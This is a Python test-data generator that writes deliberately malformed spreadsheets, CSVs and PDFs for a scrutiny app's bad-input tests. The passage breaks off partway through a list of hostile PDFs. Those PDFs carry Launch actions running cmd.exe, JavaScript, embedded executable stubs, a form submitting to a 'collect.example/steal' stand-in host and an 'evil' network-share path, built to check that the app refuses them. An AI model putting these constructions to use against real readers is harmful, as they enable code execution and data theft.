"""Write the bad-input corpus under tests/data/bad/: files an office really receives, each wrong in one way.

Run from the repository root with the project installed:

    python tests/data/make_bad_corpus.py

It rebuilds every file from nothing (the returned trackers from a fresh demo
database), so the corpus is reproducible. File names start with what they are
for: ``ind_`` indicator workbooks and CSVs, ``tracker_`` returned action
trackers (read against the demo database), ``paper_`` "PDF" papers. What each
must produce is listed in tests/test_bad_input.py. The 100,000-row file is
made at test time instead, to keep the repository small. Every file comes out
byte for byte the same on each run except paper_encrypted.pdf, whose
encryption pypdf seeds at random.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import sys
import tempfile
import warnings
import zipfile
import zlib
from pathlib import Path

import openpyxl

BAD = Path(__file__).with_name("bad")
FIXED_TIME = dt.datetime(2025, 7, 1, 9, 0)

# Table 3 of the 8 July 2025 pack, as the Constabulary pastes it.
HEADER = ["Indicator", "Last 12 months", "Previous 12 months", "Long-term average",
          "% difference to previous 12 months", "% difference to long-term average"]
ROWS = [
    ["Killed & Serious Injury collisions – Total", 490, 457, 416, 7.2, 17.8],
    ["Killed & Serious Injury collisions – Fatal", 33, 31, 31, 6.5, 6.5],
    ["Killed & Serious Injury collisions – Serious injury", 457, 426, 385, 7.3, 18.7],
]
CAPTION = "Table 3: Killed and Serious Injury (KSI) collisions."


def _table(edit=None) -> list[list]:
    rows = [list(HEADER)] + [list(r) for r in ROWS] + [[], [CAPTION]]
    if edit:
        edit(rows)
    return rows


def _set(row: int, col: int, value):
    """An edit putting ``value`` at a 1-based sheet row and column."""
    def edit(rows):
        rows[row - 1][col - 1] = value
    return edit


def _save(wb: openpyxl.Workbook, name: str) -> None:
    wb.properties.created = wb.properties.modified = FIXED_TIME
    wb.save(BAD / name)


def workbook(name: str, edit=None, title: str = "Table 3", prepare=None) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in _table(edit):
        ws.append(row)
    if prepare:
        prepare(wb, ws)
    _save(wb, name)


def csv_file(name: str, edit=None, encoding: str = "utf-8", raw: bytes | None = None) -> None:
    if raw is None:
        lines = [",".join(f'"{v}"' if isinstance(v, str) else str(v) for v in row) for row in _table(edit)]
        raw = ("\r\n".join(lines) + "\r\n").encode(encoding)
    (BAD / name).write_bytes(raw)


def _merge(rng: str):
    def prepare(_wb, ws):
        ws.merge_cells(rng)
    return prepare


def _hide(state: str):
    def prepare(wb, ws):
        ws.sheet_state = state
        wb.create_sheet("Notes", 0)["A1"] = "Figures for the July meeting are on the other sheet."
    return prepare


def indicator_files() -> None:
    workbook("ind_unreadable_comma.xlsx", _set(2, 2, ",9536"))
    workbook("ind_unreadable_double_point.xlsx", _set(3, 3, "12..5"))
    workbook("ind_unreadable_error_value.xlsx", _set(4, 4, "#DIV/0!"))
    workbook("ind_unreadable_words.xlsx", _set(2, 3, "about 450"))
    workbook("ind_unreadable_boolean.xlsx", _set(3, 2, True))
    csv_file("ind_unreadable.csv", _set(2, 2, ",9536"))
    workbook("ind_merged_values.xlsx", prepare=_merge("C2:C3"))
    workbook("ind_merged_across_figures.xlsx", prepare=_merge("B4:D4"))
    workbook("ind_hidden_sheet.xlsx", prepare=_hide("hidden"))
    workbook("ind_very_hidden_sheet.xlsx", prepare=_hide("veryHidden"))
    workbook("ind_formula_not_calculated.xlsx", _set(3, 5, "=(B3-C3)/C3*100"))
    csv_file("ind_formula_in_csv.csv", _set(2, 4, "=SUM(B2:C2)/2"))
    workbook("ind_date_for_number.xlsx", _set(2, 4, dt.datetime(2025, 3, 31)))
    workbook("ind_date_only_for_number.xlsx", _set(4, 2, dt.date(2024, 4, 1)))
    csv_file("ind_date_text_for_number.csv", _set(3, 3, "31/03/2025"))
    csv_file("ind_windows_1252.csv", _set(2, 1, "Collisions – £ cost, ‘serious’"), encoding="cp1252")
    csv_file("ind_latin_1.csv", lambda rows: [r.__setitem__(0, f"Collisions à Norwich ½ ({i})")
                                              for i, r in enumerate(rows[1:4])], encoding="latin-1")
    csv_file("ind_utf16.csv", encoding="utf-16")
    csv_file("ind_nul_byte.csv", _set(2, 1, "Killed\x00 & Serious"))
    csv_file("ind_control_characters.csv", _set(3, 1, "Fatal\x07\x1b[31m collisions"))
    workbook("ind_control_characters.xlsx", _set(2, 1, "CONTROLMARK"))
    _raw_cell("ind_control_characters.xlsx", "CONTROLMARK", b"Killed\x07 &amp; Serious")
    workbook("ind_one_megabyte_cell.xlsx", _set(3, 1, "LONGMARK"))
    _raw_cell("ind_one_megabyte_cell.xlsx", "LONGMARK", b"Fatal " + b"y" * 1_048_576)
    csv_file("ind_empty.csv", raw=b"")
    workbook("ind_no_table.xlsx", edit=lambda rows: rows.__setitem__(slice(None), [["Figures to follow."]]))
    (BAD / "ind_not_a_workbook.xlsx").write_bytes(b"Indicator,Last 12 months\r\nTotal,490\r\n")
    workbook("ind_truncated.xlsx")
    _cut(BAD / "ind_truncated.xlsx", 2)


def _rewrite_zip(path: Path, change=lambda data: data) -> None:
    """Rewrite a workbook's zip with ``change`` applied to each member and fixed dates (so reruns match byte for byte)."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            info.date_time = FIXED_TIME.timetuple()[:6]
            data = change(source.read(info))
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving here
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2025-07-01T09:00:00Z", data)
            target.writestr(info, data)
    path.write_bytes(out.getvalue())


def _cut(path: Path, parts: int) -> None:
    """Keep the first 1/``parts`` of a workbook, as a copy interrupted part way leaves it."""
    _rewrite_zip(path)
    whole = path.read_bytes()
    path.write_bytes(whole[: len(whole) // parts])


def _raw_cell(name: str, marker: str, raw: bytes) -> None:
    """Put bytes openpyxl refuses to write (a control character, over 32,767 characters) where ``marker`` is."""
    _rewrite_zip(BAD / name, lambda data: data.replace(marker.encode(), raw))


def _demo_tracker(tmp: Path) -> Path:
    """The tracker Scrutiny exports from a fresh demo database, written into ``tmp``."""
    from scrutiny_app import paths
    from scrutiny_app.demo.build import build_demo
    from scrutiny_app.exports.actions_xlsx import export_actions_xlsx

    paths.configure(tmp / "userdata")
    store = build_demo(tmp / "demo.sqlite")
    exported = tmp / "tracker.xlsx"
    export_actions_xlsx(store, exported)
    store.close()
    return exported


def tracker_files() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        exported = _demo_tracker(Path(tmp))

        def tracker(name: str, edit) -> None:
            wb = openpyxl.load_workbook(exported)
            edit(wb)
            _save(wb, name)

        def update(row: int, text: str, status: str | None = None, sheet: str = "Open"):
            def edit(wb):
                wb[sheet].cell(row, 9).value = text
                if status is not None:
                    wb[sheet].cell(row, 7).value = status
            return edit

        def drop_header(col: int):
            def edit(wb):
                for ws in (wb["Open"], wb["Closed"]):
                    ws.cell(1, col).value = None
            return edit

        tracker("tracker_missing_update_column.xlsx", drop_header(9))
        tracker("tracker_missing_status_column.xlsx", drop_header(7))
        tracker("tracker_renamed_number_column.xlsx",
                lambda wb: [setattr(ws.cell(1, 1), "value", "Action no.") for ws in (wb["Open"], wb["Closed"])])
        tracker("tracker_duplicate_number.xlsx",
                lambda wb: (update(2, "Report sent.")(wb), setattr(wb["Open"].cell(3, 1), "value", 16),
                            update(3, "Report sent again.")(wb)))
        tracker("tracker_duplicate_across_sheets.xlsx",
                lambda wb: (update(2, "Comms refreshed.", "Closed")(wb),
                            setattr(wb["Closed"].cell(2, 1), "value", 16), update(2, "Still closed.", sheet="Closed")(wb)))
        tracker("tracker_junk_status_word.xlsx", update(3, "Recruitment under way.", "Done"))
        tracker("tracker_junk_status_number.xlsx", update(4, "Summaries checked.", 3))
        tracker("tracker_junk_status_emoji.xlsx", update(5, "Awaiting the review.", "✅"))
        tracker("tracker_number_as_text.xlsx",
                lambda wb: (setattr(wb["Open"].cell(2, 1), "value", "Action 16"), update(2, "Comms refreshed.")(wb)))
        tracker("tracker_unknown_action.xlsx",
                lambda wb: (setattr(wb["Open"].cell(2, 1), "value", 999), update(2, "Done.")(wb)))
        tracker("tracker_no_tracker_sheets.xlsx",
                lambda wb: [setattr(wb[n], "title", f"Sheet{i}") for i, n in enumerate(("Open", "Closed"), start=1)])
        tracker("tracker_one_megabyte_update.xlsx", update(4, "LONGMARK", "Ongoing"))
        _raw_cell("tracker_one_megabyte_update.xlsx", "LONGMARK", b"Checked. " + b"z" * 1_048_576)
        tracker("tracker_control_characters.xlsx", update(2, "CONTROLMARK", "Ongoing"))
        _raw_cell("tracker_control_characters.xlsx", "CONTROLMARK", b"Sent\x1b[2J to the PCC.")
        tracker("tracker_truncated.xlsx", update(3, "Recruitment under way.", "Ongoing"))
        _cut(BAD / "tracker_truncated.xlsx", 3)
        (BAD / "tracker_is_a_csv.xlsx").write_bytes(b"Action,Update\r\n16,Comms refreshed\r\n")
        # Issue 16, values: formulas Excel never calculated (openpyxl saves a formula with no value).
        tracker("hostile_value_tracker_formula_update.xlsx", update(2, '=CONCAT("Report ","sent.")', "Ongoing"))
        tracker("hostile_value_tracker_formula_closed.xlsx", update(2, '="Reopened."', sheet="Closed"))


# Issue 16, values: figures written as Word, web pages and other locales write them, figures no table holds,
# odd sheet names and formulas in a returned tracker (tests/test_hostile_values.py).
VALUE_HEADER = ["Indicator", "Last 12 months", "Previous 12 months", "% difference to previous 12 months"]
VALUE_ROWS = [("All crime", 12345, 11980), ("Burglary", 1490, 1602), ("Robbery", 233, 233), ("Vehicle crime", 3301, 2950)]


def _value_rows(write=str, difference=lambda d: f"{d:.1f}") -> list[list]:
    """VALUE_ROWS with their differences, each figure through ``write`` and each difference through ``difference``."""
    return [[name, write(this), write(before), difference(round((this - before) / before * 100, 1))]
            for name, this, before in VALUE_ROWS]


def _value_table(name: str, rows: list[list], header=VALUE_HEADER, caption="Table 9: Crime in the last 12 months.",
                 title: str = "Table 9", numbers: dict[str, bytes] | None = None) -> None:
    """A workbook (or, for a .csv name, a CSV file) of one table; ``numbers`` puts raw <v> text where a marker
    number is (what openpyxl cannot write: infinity, a 400-digit number)."""
    table = [header] + rows + [[], [caption]]
    if name.endswith(".csv"):
        (BAD / name).write_text("\r\n".join(",".join(f'"{v}"' for v in row) for row in table) + "\r\n",
                                encoding="utf-8")
        return
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in table:
        ws.append(row)
    _save(wb, name)
    for marker, raw in (numbers or {}).items():
        _rewrite_zip(BAD / name, lambda data: data.replace(b"<v>" + marker.encode() + b"</v>", b"<v>" + raw + b"</v>"))


def _spaced(space: str):
    return lambda n: f"{n:,}".replace(",", space)


def hostile_value_files() -> None:
    nbsp, narrow, thin = "\u00a0", "\u202f", "\u2009"
    _value_table("hostile_value_nbsp_thousands.xlsx", _value_rows(_spaced(nbsp)))
    wide = [["Group", "Indicator", "Last 12 months", "Previous 12 months", "Long-term average",
             "% difference to previous 12 months"]]
    wide += [["Acquisitive", n, f"{a:,}".replace(",", nbsp), b, round((a + b) / 2), round((a - b) / b * 100, 1)]
             for n, a, b in VALUE_ROWS]
    _value_table("hostile_value_nbsp_wide.xlsx", wide[1:], header=wide[0])
    _value_table("hostile_value_narrow_nbsp.csv", _value_rows(_spaced(narrow)))
    _value_table("hostile_value_thin_space.csv", _value_rows(_spaced(thin)))
    full_width = str.maketrans("0123456789,.", "０１２３４５６７８９，．")
    _value_table("hostile_value_full_width.xlsx", _value_rows(lambda n: f"{n:,}".translate(full_width)))
    arabic = str.maketrans("0123456789.", "٠١٢٣٤٥٦٧٨٩٫")
    _value_table("hostile_value_arabic_indic.csv", _value_rows(lambda n: str(n).translate(arabic),
                                                               lambda d: f"{d:.1f}".translate(arabic)))
    minus_signs = ["\u2212{}", "\u2013{}", "({})", "\u207b{}", "\ufe63{}", "\uff0d{}"]  # one per row: 10% down, 20%...
    _value_table("hostile_value_minus_lookalikes.csv", [
        [f"Falling {n}", 100 - 10 * n, 100, sign.format(f"{10 * n:.1f}")] for n, sign in enumerate(minus_signs, 1)])
    _value_table("hostile_value_nbsp_units.csv", [
        ["Solved rate", f"12{nbsp}%", f"10.5{nbsp}%", f"1.5{nbsp}pp"],
        ["Repeat victims", f"31.0{narrow}%", f"33.2{thin}%", f"\u22122.2{nbsp}pp"]])
    _value_table("hostile_value_mostly_unreadable.xlsx",
                 [[n, a, text, 0.0] for (n, a, _), text in zip(VALUE_ROWS, ["12..5", ",9536", "about 450", "1.2.3"])])
    _value_table("hostile_value_infinity.xlsx", _value_rows(int), numbers={"1490": b"1e999"})
    _value_table("hostile_value_400_digits.xlsx", _value_rows(int), numbers={"233": b"7" * 400})
    _value_table("hostile_value_not_finite_text.csv", _value_rows(), caption="Table 9")
    _rewrite_text("hostile_value_not_finite_text.csv", {'"1490"': '"NaN"', '"1602"': '"1e999"', '"3301"': '"-inf"'})
    _value_table("hostile_value_beyond_limit.csv", _value_rows())
    _rewrite_text("hostile_value_beyond_limit.csv", {'"12345"': '"1234567890123456"', '"233"': '"1e16"'})
    _value_table("hostile_value_underflow.csv", _value_rows())
    _rewrite_text("hostile_value_underflow.csv", {'"1490"': '"1e-400"'})
    workbook("hostile_value_fewer_rows.xlsx")  # the demo's Table 3 without its fourth row

    wb = openpyxl.Workbook()
    titles = ["'Quoted'", "Burglary dwelling and non-dwelling, by district", "Burglary dwelling and non-dwelling, by ward",
              "History"]
    wb.active.title = titles[0]
    for title in titles[1:]:
        wb.create_sheet(title)
    for ws in wb.worksheets:
        ws.append(VALUE_HEADER)
        for row in _value_rows(int):
            ws.append(row)
    _save(wb, "hostile_value_sheet_names.xlsx")


def _rewrite_text(name: str, replacements: dict[str, str]) -> None:
    text = (BAD / name).read_text(encoding="utf-8")
    for old, new in replacements.items():
        text = text.replace(old, new)
    (BAD / name).write_text(text, encoding="utf-8")


# -- hostile spreadsheets (issue 16): far cells, lying <dimension>s, damaged internals; see test_hostile_spreadsheets.py


def _sheet_xml(name: str, old: bytes, new: bytes, part: str = "xl/worksheets/sheet1.xml") -> None:
    """Replace ``old`` by ``new`` in one part of workbook ``name`` (the bytes openpyxl or XlsxWriter wrote)."""
    path = BAD / name
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    assert old in source.read(part), (name, old)
    _rewrite_zip(path, lambda data: data.replace(old, new) if old in data else data)


def hostile_sheet_files() -> None:
    def far(cell: str):
        def prepare(_wb, ws):
            ws[cell] = "Source: Constabulary analyst"
        return prepare

    workbook("hostile_sheet_far_corner.xlsx", prepare=far("XFD1048576"))
    workbook("hostile_sheet_far_row.xlsx", prepare=far("A1048576"))
    workbook("hostile_sheet_nan_number.xlsx")
    _sheet_xml("hostile_sheet_nan_number.xlsx", b'<c r="C3" t="n"><v>31</v>', b'<c r="C3" t="n"><v>NaN</v>')
    workbook("hostile_sheet_junk_date.xlsx")
    _sheet_xml("hostile_sheet_junk_date.xlsx", b'<c r="D4" t="n"><v>385</v>', b'<c r="D4" t="d"><v>31st March</v>')
    workbook("hostile_sheet_missing_shared_string.xlsx")
    _sheet_xml("hostile_sheet_missing_shared_string.xlsx", b'<c r="B2" t="n"><v>490</v>', b'<c r="B2" t="s"><v>7</v>')
    workbook("hostile_sheet_bad_style.xlsx")
    _sheet_xml("hostile_sheet_bad_style.xlsx", b'<c r="B2" t="n">', b'<c r="B2" t="n" s="999">')
    workbook("hostile_sheet_twenty_thousand_columns.xlsx")
    _sheet_xml("hostile_sheet_twenty_thousand_columns.xlsx", b'</row><row r="2">',
               b'<c t="n"><v>1</v></c>' * 20_000 + b'</row><row r="2">')
    workbook("hostile_sheet_merged_everything.xlsx")
    _sheet_xml("hostile_sheet_merged_everything.xlsx", b"</sheetData>",
               b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    workbook("hostile_sheet_duplicate_parts.xlsx")
    path = BAD / "hostile_sheet_duplicate_parts.xlsx"
    with zipfile.ZipFile(path, "a") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the duplicate name is the point
        z.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml", FIXED_TIME.timetuple()[:6]),
                   z.read("xl/worksheets/sheet1.xml").replace(b"<v>490</v>", b"<v>1490</v>"))

    with tempfile.TemporaryDirectory() as tmp:
        exported = _demo_tracker(Path(tmp))

        def tracker(name: str, updates: dict[int, str], dimension: bytes | None = None, row: bytes = b"") -> None:
            """The demo's tracker with ``updates`` by row of the Open sheet, its <dimension> and a row added."""
            wb = openpyxl.load_workbook(exported)
            for r, text in updates.items():
                wb["Open"].cell(r, 9).value = text
            _save(wb, name)
            if dimension:
                claimed = re.search(rb'<dimension ref="[^"]*"/>', zipfile.ZipFile(BAD / name).read(
                    "xl/worksheets/sheet1.xml"))[0]
                _sheet_xml(name, claimed, b'<dimension ref="%s"/>' % dimension)
            if row:
                _sheet_xml(name, b"</sheetData>", row + b"</sheetData>")

        four = {2: "Comms refreshed.", 3: "Recruitment under way.", 4: "Summaries checked.", 5: "Review booked."}
        tracker("hostile_sheet_tracker_dimension_hides_rows.xlsx", four, dimension=b"A1:I2")
        tracker("hostile_sheet_tracker_claims_whole_sheet.xlsx", {2: "Comms refreshed."}, dimension=b"A1:XFD1048576",
                row=b'<row r="1048576"><c r="A1048576" t="n"><v>16</v></c></row>')
        tracker("hostile_sheet_tracker_far_blank_row.xlsx", {2: "Comms refreshed."}, dimension=b"A1:XFD1048576",
                row=b'<row r="1048576"><c r="XFD1048576" s="1"/></row>')
        tracker("hostile_sheet_tracker_nan_number.xlsx", {2: "Comms refreshed."})
        _sheet_xml("hostile_sheet_tracker_nan_number.xlsx", b'<c r="A3" s="2" t="n"><v>17</v>',
                   b'<c r="A3" s="2" t="n"><v>NaN</v>')
        tracker("hostile_sheet_tracker_missing_shared_string.xlsx", {2: "Comms refreshed."})
        _sheet_xml("hostile_sheet_tracker_missing_shared_string.xlsx",
                   b'<c r="I2" s="2" t="inlineStr"><is><t>Comms refreshed.</t></is></c>', b'<c r="I2" s="2" t="s"><v>4000</v></c>')


def _image_only_pdf() -> bytes:
    """One A4 page showing a 16 x 16 grey image and no text at all, as a scanner makes them."""
    pixels = zlib.compress(bytes(range(0, 256, 1)) * 3)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        None,  # the content stream
        None,  # the image
    ]
    content = b"q 400 0 0 400 97 221 cm /Im1 Do Q"
    streams = {
        4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        5: b"<< /Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
           b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(pixels) + pixels + b"\nendstream",
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + (streams.get(n) or body) + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def paper_files() -> None:
    from pypdf import PdfReader, PdfWriter
    from reportlab.pdfgen.canvas import Canvas

    text_pdf = io.BytesIO()
    canvas = Canvas(text_pdf, invariant=1)
    for n in range(1, 4):
        canvas.drawString(72, 720, f"Report to the PCC, page {n} of 3")
        canvas.showPage()
    canvas.save()
    good = text_pdf.getvalue()

    (BAD / "paper_image_only.pdf").write_bytes(_image_only_pdf())
    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(good)).pages:
        writer.add_page(page)
    writer.encrypt(user_password="opcc2025", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    (BAD / "paper_encrypted.pdf").write_bytes(out.getvalue())
    (BAD / "paper_truncated_half.pdf").write_bytes(good[: len(good) // 2])
    (BAD / "paper_header_only.pdf").write_bytes(good[:400])
    (BAD / "paper_empty.pdf").write_bytes(b"")
    (BAD / "paper_png_image.pdf").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    (BAD / "paper_jpeg_image.pdf").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 64)
    word = io.BytesIO()
    with zipfile.ZipFile(word, "w") as z:
        for name, text in (("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")):
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME.timetuple()[:6]), text)
    (BAD / "paper_word_document.pdf").write_bytes(word.getvalue())
    (BAD / "paper_web_page.pdf").write_bytes(b"<!DOCTYPE html><html><body>Session expired</body></html>")
    (BAD / "paper_garbage_after_header.pdf").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)


# -- hostile_pdf_: papers that act, hide files, lie about their size or structure ---------------------------

_PAGE_TEXT = b"BT /F1 14 Tf 72 720 Td (Report to the PCC: hostile paper) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (object 1 first), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref))
    return out.getvalue()


def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def hostile_paper(catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (),
                  content: bytes = _PAGE_TEXT, trailer: bytes = b"") -> bytes:
    """One text page: 1 catalog, 2 pages, 3 page, 4 its content, 5 its font, then ``more`` from object 6."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R " + page + b">>",
        pdf_stream(content),
        _FONT,
        *more,
    ], trailer)


def _tree(pages_node: bytes, page: bytes = b"/MediaBox [0 0 595 842] ", more: tuple[bytes, ...] = ()) -> bytes:
    """A paper whose object 2 (the page tree) is given: object 3 is a page, 4 its content, 5 its font."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        pages_node,
        b"<< /Type /Page /Parent 2 0 R " + page + b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        pdf_stream(_PAGE_TEXT),
        _FONT,
        *more,
    ])


_EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
_ENCRYPT_ID = b"/ID [<%s> <%s>] " % (b"11" * 16, b"11" * 16)
_AES = {
    "aes256": b"<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen "
              b"/Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <%s> /U <%s> /OE <%s> /UE <%s> /P -1028 /Perms <%s> >>"
              % (b"ab" * 48, b"cd" * 48, b"ef" * 32, b"01" * 32, b"23" * 16),
    "aes128": b"<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen "
              b"/Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <%s> /U <%s> /P -1028 >>" % (b"ab" * 32, b"cd" * 32),
}


def hostile_pdf_files() -> None:
    """Papers built to act when opened, or to exhaust the reader; see tests/test_hostile_papers.py.

    The AES papers carry a real AES encryption dictionary over ciphertext that is only random-looking
    bytes: the app refuses from the dictionary alone, and pypdf cannot write AES without cryptography."""
    files = {
        # Page JavaScript, a Launch action on opening, an embedded .exe, document JavaScript: the measured case.
        "javascript_launch_exe": hostile_paper(
            catalog=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 7 0 R] >> "
                    b"/EmbeddedFiles << /Names [(invoice.exe) 8 0 R] >> >> /AA << /WC 7 0 R >> ",
            page=b"/AA << /O 7 0 R /C 7 0 R >> ",
            more=(b"<< /Type /Action /S /Launch /F (invoice.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
                  b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
                  b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 9 0 R >> >>",
                  pdf_stream(_EXE, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "))),
        # A link whose action is JavaScript, chained by /Next to a Launch; the JavaScript held in a stream.
        "annotation_javascript": hostile_paper(
            page=b"/Annots [6 0 R] ",
            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A 7 0 R >>",
                  b"<< /S /JavaScript /JS 8 0 R /Next [9 0 R] >>",
                  pdf_stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
                  b"<< /S /Launch /F << /Type /Filespec /F (\\\\\\\\evil\\\\share\\\\x.exe) >> >>")),
        # Links into another file and into an embedded one, and a file attachment on the page.
        "goto_embedded": hostile_paper(
            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
                  b"<< /Type /Annot /Subtype /Link /Rect [72 560 200 580] /A << /S /GoToE /NewWindow true "
                  b"/T << /R /C /N (payload.pdf) >> /D [0 /Fit] >> >>",
                  b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /Name /Paperclip "
                  b"/FS << /Type /Filespec /F (payload.exe) /EF << /F 9 0 R >> >> >>",
                  pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
        # An XFA form whose fields submit, import data and run JavaScript when touched.
        "form_actions": hostile_paper(
            catalog=b"/AcroForm << /Fields [6 0 R] /XFA 8 0 R /NeedAppearances true >> ",
            page=b"/Annots [6 0 R] ",
            more=(b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 400 200 430] /P 3 0 R "
                  b"/A << /S /SubmitForm /F << /FS /URL /F (http://collect.example/steal) >> /Flags 4 >> "
                  b"/AA << /E << /S /ImportData /F (data.fdf) >> /K 7 0 R >> >>",
                  b"<< /S /JavaScript /JS (event.value = 1;) >>",
                  pdf_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.launchURL('x');</script></xdp:xdp>"))),
        # Rich media and 3D annotations, and a rendition action.
        "rich_media": hostile_paper(
            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
            more=(b"<< /Type /Annot /Subtype /RichMedia /Rect [72 300 300 500] /RichMediaContent << /Assets 9 0 R >> "
                  b"/RichMediaSettings << >> >>",
                  b"<< /Type /Annot /Subtype /3D /Rect [300 300 500 500] /3DD 9 0 R >>",
                  b"<< /Type /Annot /Subtype /Screen /Rect [72 100 300 280] /A << /S /Rendition /OP 0 >> >>",
                  pdf_stream(b"FWS\x09 flash movie"))),
        # A web link (kept), and links to a file: and a javascript: address (removed).
        "links": hostile_paper(
            page=b"/Annots [6 0 R 7 0 R 8 0 R] ",
            more=(b"<< /Type /Annot /Subtype /Link /Rect [72 680 300 700] /A << /S /URI /URI (https://www.norfolk-pcc.gov.uk/) >> >>",
                  b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 670] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
                  b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>")),
        # JavaScript and an embedded file in objects nothing refers to: inert, but stored nowhere all the same.
        "orphan_javascript": hostile_paper(
            more=(b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>", pdf_stream(_EXE, b"/Type /EmbeddedFile "))),
        # Encryption of every kind, refused alike.
        "aes256": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes256"],)),
        "aes128": hostile_paper(trailer=b"/Encrypt 6 0 R " + _ENCRYPT_ID, more=(_AES["aes128"],)),
        # Page boxes that cannot be laid out, and trees with no page.
        "no_mediabox": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b""),
        "zero_area_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [0 0 0 842] "),
        "inverted_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [595 842 0 0] "),
        "absurd_box": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [0 0 1000000000 842] "),
        "box_of_words": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page=b"/MediaBox [(a) (b) (c) (d)] "),
        "rotated_by_words": _tree(b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate (a quarter) >>"),
        "zero_pages": _tree(b"<< /Type /Pages /Kids [] /Count 0 >>"),
